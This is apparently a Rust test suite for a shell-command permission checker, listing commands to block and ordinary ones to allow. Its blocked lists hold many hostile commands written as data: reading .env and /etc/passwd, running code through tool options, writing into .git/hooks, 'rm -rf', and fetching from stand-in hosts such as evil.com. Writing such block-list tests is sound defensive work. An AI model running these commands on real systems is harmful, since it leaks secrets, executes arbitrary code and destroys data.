//! Options of known tools that leave the root, load code or write elsewhere.

use super::{allowed, stopped};

#[test]
fn awk_names_its_own_files() {
    stopped(&[
        "awk 'BEGIN{ARGV[1]=\".env\";ARGC=2}1'",
        "awk 'BEGIN { ARGV[ARGC++]=\".env\" } 1' a.txt",
        "awk 'BEGIN{f=\".env\"; while((getline x < f)>0) print x}'",
        "awk 'BEGIN{split(\".e nv\",p,\" \"); while((getline x < (p[1] p[2]))>0) print x}'",
        "gawk '@include \".env\"; 1'",
        "gawk 'BEGIN{SYMTAB[\"ARGV\"][1]=\"x\"}'",
    ]);
}

#[test]
fn small_tools_with_a_sting() {
    stopped(&[
        "cowsay -f ./x.cow hi",
        "cowsay -f x.cow hi",
        "cowthink -f ./x.cow",
        "ps e",
        "ps auxe",
        "ps eww",
        "ps -eo pid,args e",
        "ps axe -o command",
        "ps e -p 1",
        "ps -E",
        "less -k x",
        "less -kx a.txt",
        "less --lesskey-file=x a.txt",
        "less --lesskey-src=x a.txt",
        "less -K -k ./x README.md",
        "less +!id a.txt",
        "less +:e/etc/passwd a.txt",
        "more +!id a",
        "route add default gw 1.2.3.4",
        "route del default",
        "ip route add default via 1.2.3.4",
        "ip link set eth0 down",
        "ifconfig eth0 down",
        "arp -s 1.2.3.4 aa:bb",
    ]);
}

#[test]
fn what_stands_behind_an_option_may_be_its_value_or_not() {
    stopped(&[
        // A longer name is listed that takes a value.
        "pandoc --toc --filter ./x a.md",
        "pandoc --toc .env",
        "diff --context .env a.txt",
        "rustc --test -C linker=./x a.rs",
        // A value is taken only where it is joined.
        "split --numeric-suffixes .env",
        "split --hex-suffixes /etc/passwd",
        "xargs --max-lines ./odd",
        "xargs --replace ./odd",
        "xargs --eof ./odd",
        "tar xOf a.tar --occurrence .env",
        // What takes a value may be another option.
        "tar -b --to-command=./x -xf a.tar",
        "rg -e --pre ./x a",
        "tree -L -o .git/hooks/x",
        "sort -k --compress-program=./x a.txt",
        // Joined to letters that are not listed.
        "hexdump -f.env a.bin",
        "od -vf.env a.bin",
        "fd -Hx./odd",
        "fd --exec=./odd a",
        "man -aP ./x ls",
        "man --pag=./x ls",
        "apropos -C.env a",
    ]);
    allowed(&[
        "diff --context=3 a.txt b.txt",
        "diff --unified a.txt b.txt",
        "pandoc --toc -o a.pdf a.md",
        "hexdump -vC a.bin",
        "xargs --max-lines=2 echo",
        "grep -e -v a.txt",
        "head -n -5 a.txt",
        "sort -k 2 -t , a.txt",
        "tar cf a.tar --exclude .env src",
        "rg --glob '!*.lock' -e --prefix src",
        "fd -e rs -x wc -l",
        "man -k printf",
    ]);
}

#[test]
fn what_a_tool_runs_is_judged() {
    stopped(&[
        "bundle exec rm -rf src",
        "bundle --gemfile x exec rm -rf src",
        "stack exec -- rm -rf src",
        "cabal new-exec rm -rf src",
        "dune exec -- rm -rf src",
        "opam exec --switch x -- rm -rf src",
        "mix cmd rm -rf src",
        "composer exec -- rm -rf src",
        "gem exec rm -rf src",
        "tox exec -- rm -rf src",
        "hatch env run -- rm -rf src",
        "lerna exec rm -rf src",
        "nx exec -- rm -rf src",
        "nyc --reporter text rm -rf src",
        "meson devenv rm -rf src",
        "cmake -E chdir src ./odd",
        "cmake -E chdir .. cat out.txt",
        "cabal exec --builddir x --project-file y rm -rf src",
        "fd -x echo $(cat names) -x rm -rf src",
        "perl -wS ./odd",
        "perl -F'@{[system(1)]}' -ane 1 a.txt",
        "perl -aF'/x/,system(1)' -ne 1 a.txt",
        "valgrind -q rm -rf src",
        "jobs -x rm -rf src",
        "rails runner 'system(1)'",
        "mix run -e 'System.cmd(1)'",
        "cargo rustc -- -C linker=./x",
        "coverage run -m timeit 'import os; os.system(1)'",
        "uv run -m timeit 'import os; os.system(1)'",
        "echo 'import os; os.system(1)' | uv run -",
        "uv run - <<< 'import os; os.system(1)'",
        "terraform -chdir=../x plan",
    ]);
    allowed(&[
        "bundle exec rspec spec/a_spec.rb",
        "bundle exec rake test",
        "stack exec app -- --help",
        "cabal exec -- ghc --version",
        "dune exec bin/main.exe",
        "opam exec -- dune build",
        "composer exec phpunit",
        "tox exec -e py311 -- pytest -q",
        "hatch env run test",
        "hatch run lint",
        "lerna exec -- eslint src",
        "nyc --reporter=lcov mocha",
        "meson devenv -C build pytest",
        "valgrind --leak-check=full target/debug/app -v",
        "rails runner scripts/count.rb",
        "mix run priv/seeds.exs",
        "cargo clippy --all-targets -- -D warnings",
        "cargo rustc --release -- --emit asm",
        "coverage run -m pytest -q",
        "coverage report -m",
        "perl -F: -lane 'print $F[0]' a.txt",
        "perl -ne'print if /F(?:x)/' a.txt",
        "uv run -m pytest",
    ]);
}

#[test]
fn what_is_left_out_is_not_read() {
    allowed(&[
        "zip -r a.zip src -x .env",
        "tar czf a.tgz --exclude .env --exclude=.ssh src",
        "grep -r --exclude .env --exclude-dir .git x src",
        "rg -g '!.env' x",
        "rsync -a --exclude .env src/ dst/",
        "fd -E .env",
        "tree -a -I '.git|.env'",
        "ls --ignore .env --hide .ssh",
        "diff -r -x .env a b",
        "du -sh --exclude .env src",
        "ag --ignore .env x",
        "git grep x -- ':!.env'",
        "git add . ':^.env'",
        "git diff -- . ':(exclude).env' ':(top,exclude)config/.env'",
    ]);
    stopped(&[
        "git show ':.env'",
        "git show ':0:.env'",
        "git show HEAD:.env",
        "git grep x -- ':(top).env'",
        "git diff --no-index ':!a' .env",
        "git log -p -- ':/.env'",
        "git show 'HEAD:!/../.env'",
        "zip -x a b .env",
        "tar cf a.tar --exclude x .env",
        "rsync -a --exclude x .env dst/",
        // Of these, one takes no value.
        "diff3 -x .env a b",
        "zgrep -e x --exclude .env a.gz",
        // Plain paths to some commands of git.
        "git init ':!/../../out'",
        "git mv a.txt ':^/../.git/hooks/x'",
        "git worktree add ':!/../../out'",
    ]);
}

#[test]
fn task_runners() {
    stopped(&[
        "just -d /tmp -f /tmp/justfile",
        "just -f /tmp/justfile",
        "just --justfile=/tmp/j x",
        "just --working-directory /tmp",
        "just --shell ./x test",
        "task -t /tmp/Taskfile.yml",
        "task --taskfile /tmp/T.yml x",
        "task -d / x",
    ]);
}

#[test]
fn java() {
    stopped(&[
        "java @/tmp/args",
        "java @args",
        "java @args.txt Main",
        "javac @/etc/passwd",
        "javac @argfile",
        "java -cp /tmp/x.jar Main",
        "java -javaagent:/tmp/x.jar -jar a.jar",
        "java -javaagent:./x.jar Main",
        "java -agentpath:./x.so Main",
        "java -XX:OnError='touch x' Main",
        "java -XX:Flags=/tmp/x Main",
        "java -Djava.library.path=/tmp Main",
        "java --source 17 /tmp/X.java",
        "javac @args",
    ]);
}

#[test]
fn cargo() {
    stopped(&[
        "cargo +/tmp/x build",
        "cargo +./x build",
        "cargo build --config /tmp/x.toml",
        "cargo --config=/tmp/x.toml build",
        "cargo run --manifest-path=/tmp/x/Cargo.toml",
        "cargo -Zunstable-options -C /tmp build",
    ]);
}

#[test]
fn php() {
    stopped(&[
        "php -d auto_prepend_file=/etc/passwd a.php",
        "php -d auto_prepend_file=x.php a.php",
        "php -dextension=./x.so a.php",
        "php -z x.so a.php",
        "php -c /tmp/php.ini a.php",
        "php -S 0.0.0.0:80",
        "php -B 'system(\"id\");'",
        "php -R 'system(\"id\");'",
    ]);
}

#[test]
fn node_tools() {
    stopped(&[
        "eslint -f /tmp/x.js src",
        "eslint -f ../x.js src",
        "eslint --format /tmp/x.js .",
        "eslint --rulesdir /tmp src",
        "eslint --rulesdir=/tmp/r src",
        "eslint --plugin /tmp/x src",
        "eslint --parser /tmp/x.js src",
        "eslint --resolve-plugins-relative-to=/tmp src",
        "eslint -o /etc/x src",
        "eslint -c /tmp/x.js src",
        "jest --config=/tmp/x.js",
        "jest --globalSetup /tmp/x.js",
        "jest --rootDir=/tmp",
        "jest --testRunner=/tmp/x",
        "mocha -r /tmp/x.js",
        "mocha --require=/tmp/x.js",
        "mocha --file /tmp/x.js",
        "prettier --plugin=/tmp/x.js a.js",
        "tsc --project /tmp",
        "webpack --config /tmp/x.js",
        "vite --config /tmp/x",
        "nyc --require /tmp/x.js node a.js",
    ]);
}

#[test]
fn cmake_and_make() {
    stopped(&[
        "cmake --install build --prefix /usr",
        "cmake --install build --prefix=/usr/local",
        "cmake -P /tmp/x.cmake",
        "cmake -C /tmp/x.cmake .",
        "cmake -DCMAKE_C_COMPILER=./x .",
        "cmake -DCMAKE_TOOLCHAIN_FILE=/tmp/x .",
        "cmake -DCMAKE_C_COMPILER_LAUNCHER=./x -B build",
        "cmake -E env PATH=. ls",
        "cmake -E tar xf /etc/x.tar",
        "cmake -E copy .env x",
        "cmake --build /tmp/x",
        "DESTDIR=/ cmake --install build",
        "make DESTDIR=/ install",
        "make prefix=/usr install",
        "make install",
    ]);
}

#[test]
fn compilers() {
    stopped(&[
        "gcc -Wl,-o,/x a.c",
        "gcc -Wl,-o/etc/x a.c",
        "gcc -Wl,--output=/etc/x a.c",
        "gcc -Wl,-plugin,./x.so a.c",
        "gcc -Wl,@/etc/x a.c",
        "gcc -Wa,-o,/etc/x a.c",
        "gcc -Wp,-MD,/etc/x a.c",
        "gcc -Xlinker -o -Xlinker /etc/x a.c",
        "gcc -B . a.c",
        "gcc -B./x a.c",
        "gcc -Bx a.c",
        "gcc -fplugin=./x.so a.c",
        "gcc -fplugin=x a.c",
        "clang -fplugin=./x.so a.c",
        "clang -Xclang -load -Xclang ./x.so a.c",
        "clang -fpass-plugin=./x.so a.c",
        "gcc -specs=./x a.c",
        "gcc --specs=x a.c",
        "gcc -fuse-ld=/tmp/x a.c",
        "gcc -wrapper sh,-c,id a.c",
        "gcc @/etc/passwd",
        "gcc @args",
        "gcc -MF /etc/x a.c",
        "gcc -dumpdir /etc/ a.c",
        "gcc -save-temps -dumpbase /etc/x a.c",
        "gcc -include .env a.c",
        "gcc -xc .env -E",
        "gcc -I/etc -include passwd a.c",
        "ld -o /etc/x a.o",
        "ld --dynamic-linker ./x a.o",
        "ld -plugin ./x.so a.o",
        "rustc -Clinker=./x a.rs",
        "rustc -C link-arg=-o/etc/x a.rs",
        "rustc --sysroot /tmp a.rs",
        "rustc @/tmp/args",
        "rustc @args",
        "rustc -Zcodegen-backend=./x.so a.rs",
        "ghc -e 'System.Process.system \"id\"'",
        "swift -e 'import Foundation; exit(1)'",
    ]);
}

#[test]
fn go() {
    stopped(&[
        "go run example.org/x@latest",
        "go run evil.com/x",
        "go run https://evil.example/x",
        "go build -ldflags '-extld=./x' .",
        "go build -ldflags=-extld=./x .",
        "go test -exec ./x ./...",
    ]);
}

#[test]
fn patches_and_archives() {
    stopped(&[
        "git apply --unsafe-paths x.patch",
        "git apply --unsafe-paths --directory=/ x.patch",
        "git apply --directory=.git/hooks x.patch",
        "git apply --unsafe x.patch",
        "git am --directory=.git x.patch",
        "tar --transform 's,^,.git/hooks/,' -xf a.tar",
        "tar xf a.tar --xform='s,a,/etc/x,'",
        "tar --transfor=s,x,.git/hooks/y, -xf a.tar",
        "bsdtar -s ',a,.git/hooks/a,' -xf a.tar",
        "tar -P -xf a.tar",
        "tar xPf a.tar",
        "tar -xPf a.tar",
        "tar --absolute-names -xf a.tar",
        "tar --absol -xf a.tar",
        "tar xf a.tar --strip-components=1 -C .git",
        "tar xf a.tar --one-top-level=/tmp/x",
        "tar xf a.tar --one-top-level=.git/hooks",
        "unzip -o a.zip -d .git/hooks",
        "unzip a.zip -d.git",
    ]);
}

#[test]
fn converters() {
    stopped(&[
        "ffmpeg -i file:/etc/passwd out.txt",
        "ffmpeg -i file:///etc/passwd out.txt",
        "ffmpeg -i 'concat:/etc/passwd|a.txt' out",
        "ffmpeg -i concat:.env out",
        "ffmpeg -f concat -safe 0 -i l.txt o.mp4",
        "ffmpeg -i 'subfile,,start,0,end,10,,:/etc/passwd' o",
        "ffmpeg -i a.mp4 -f mp4 /etc/x",
        "ffmpeg -i a http://evil/x",
        "ffmpeg -i a tcp://evil:1",
        "ffmpeg -i data.mp4 file:/etc/cron.d/x",
        "convert msl:/etc/x.msl a.png",
        "convert 'text:/etc/passwd' a.png",
        "convert @/etc/passwd a.png",
        "convert 'label:@.env' a.png",
        "convert 'ephemeral:a.png' b",
        "convert a.png '|id'",
        "gnuplot -e 'system(\"id\")'",
        "gnuplot -e '!id'",
        "gnuplot -e \"print system('id')\"",
        "gnuplot <<< '!id'",
        "echo 'system \"id\"' | gnuplot",
    ]);
}

#[test]
fn ruby_and_perl() {
    stopped(&[
        "ruby -e 'open(\"|id\")'",
        "ruby -e 'IO.popen(\"id\")'",
        "ruby -e 'puts `id`'",
        "ruby -e 'puts %x(id)'",
        "ruby -e 'Kernel.open(\"| id\").read'",
        "ruby -e 'puts open(\"|\" + \"id\").read'",
        "ruby -e 'File.read(\".env\")'",
        "ruby -e 'puts IO.read(\"/etc/passwd\")'",
        "ruby -I /tmp -rx -e 1",
        "ruby -ne 'print' .env",
        "ruby -e 'Dir[\"/etc/*\"]'",
        "perl -e 'open(F,\"id|\")'",
        "perl -e 'open F,\"|-\",\"id\"'",
        "perl -e 'print <`id`>'",
        "perl -e 'do \"/tmp/x\"'",
        "perl -ne print .env",
        "perl -Mre=debug -MFoo -I/tmp -e 1",
        "perl -e 'print qx{id}'",
        "perl -pi -e 's/x/`id`/e' a.txt",
        "perl -pe 's/x/system \"id\"/e' a.txt",
        "perl -pe 's/(.*)/$1/ee' a.txt",
        "perl -pe '@ARGV=(\".env\")' a.txt",
        "perl -e '@ARGV=\".env\";print <>'",
        "perl -e 'print <.e*>'",
        "perl -pe 'BEGIN{unshift @ARGV,\".env\"}' a",
        "perl -I/tmp a.pl",
    ]);
}

#[test]
fn python_modules() {
    stopped(&[
        "python -m timeit 'import os; os.system(\"id\")'",
        "python3 -m timeit -s 'import os' 'os.system(\"id\")'",
        "python3 -mtimeit 'open(\"/etc/passwd\").read()'",
        "python3 -m cProfile -c 'import os'",
        "python3 -m pdb -c '!import os' a.py",
        "python3 -m trace --trace /tmp/x.py",
        "python3 -m runpy /tmp/x.py",
        "python3 -m zipfile -e a.zip .git/hooks",
        "python3 -m zipfile -e a.zip /etc",
        "python3 -m tarfile -e a.tar ..",
        "python3 -m base64 .env",
        "python3 -m json.tool .env",
        "python3 -m sqlite3 a.db '.shell id'",
        "python3 -m http.server",
        "python3 -m pydoc -p 80",
        "python3 -m pyftpdlib",
        "python3 -m webbrowser http://x",
        "python3 -m smtpd",
        "python3 -m idlelib",
        "python3 -m code",
        "python3 -m pip install x",
        "python3 -m ensurepip",
        "python3 -m venv /tmp/x",
        "python3 -m compileall /etc",
        "python3 -m unittest /tmp/x.py",
        "python3 -X importtime -X pycache_prefix=/etc a.py",
        "python3 /dev/stdin <<< 'import os; os.system(\"id\")'",
    ]);
}

#[test]
fn python_tools() {
    stopped(&[
        "pylint --init-hook='import os; os.system(\"id\")' src",
        "pylint --init-hook \"__import__('os').system('id')\" src",
        "pylint --init-h x src",
        "pylint --load-plugins=x src",
        "pylint --rcfile=/tmp/x src",
        "pytest -p x",
        "pytest -p /tmp/x",
        "pytest -c /tmp/x.ini",
        "pytest --rootdir=/tmp",
        "pytest -o python_files=/etc",
        "pytest --confcutdir=/tmp",
        "pytest --basetemp=/etc",
        "pytest --junitxml=/etc/x",
        "mypy --python-executable ./x src",
        "mypy --custom-typeshed-dir /tmp src",
        "coverage run --rcfile=/tmp/x a.py",
        "tox -c /tmp/tox.ini",
        "black --config /tmp/x src",
    ]);
}

#[test]
fn schedules_and_package_scripts() {
    stopped(&[
        "git maintenance start",
        "git maintenance register",
        "git maintenance start --scheduler=crontab",
        "npm pkg set scripts.test='rm -rf ~'",
        "npm pkg set scripts.postinstall=./x",
        "npm pkg set 'scripts.prepare'=x",
        "npm config set script-shell ./x",
        "npm config set registry http://evil",
        "npm c set prefix /tmp",
        "npm set script-shell=./x",
        "yarn config set yarnPath ./x",
        "pnpm config set store-dir /tmp",
        "npm --script-shell=./x test",
        "npm test --script-shell ./x",
        "npm run build --node-options='--require ./x'",
        "npm --prefix=/tmp test",
        "npm -C /tmp test",
        "npm init evil",
        "npm explore x -- id",
        "npm edit x",
        "npm run --prefix /tmp x",
        "yarn --cwd /tmp test",
    ]);
}

#[test]
fn the_same_tools_in_ordinary_use() {
    allowed(&[
        "awk -F: '{print $1}' a.txt",
        "cowsay hi",
        "ps aux",
        "ps -eo pid,etime,command",
        "ps axo pid,etime",
        "less README.md",
        "less +G a.txt",
        "ip addr",
        "ip route show",
        "just test",
        "just --list",
        "task build",
        "java -jar build/a.jar",
        "java -Xmx1g -cp out Main",
        "cargo +nightly fmt",
        "php -d memory_limit=1G a.php",
        "eslint src --format stylish",
        "eslint . --ext .ts",
        "jest -t 'GET /api/users'",
        "cmake -B build -DCMAKE_INSTALL_PREFIX=/usr/local",
        "cmake --install build --prefix out",
        "gcc -Wall -Wl,-rpath,/usr/lib -Wl,--as-needed -o app a.c",
        "gcc -fuse-ld=lld a.c",
        "go run ./cmd/server",
        "go run .",
        "go build -ldflags '-s -w -X main.version=1.2' ./...",
        "git apply fix.patch",
        "tar xf a.tar -C build",
        "ffmpeg -i a.mp4 -vf scale=320:-1 b.mp4",
        "convert a.png -resize 50% b.png",
        "dot -Tsvg a.dot -o a.svg",
        "perl -pi -e 's/foo/bar/g' src/lib.rs",
        "perl -ne 'print if /error/' a.log",
        "ruby -e 'puts 1+1'",
        "python3 -m timeit '1+1'",
        "python3 -m zipfile -l a.zip",
        "pytest -p no:cacheprovider -q",
        "pylint src",
        "git maintenance run",
        "npm pkg get version",
    ]);
}
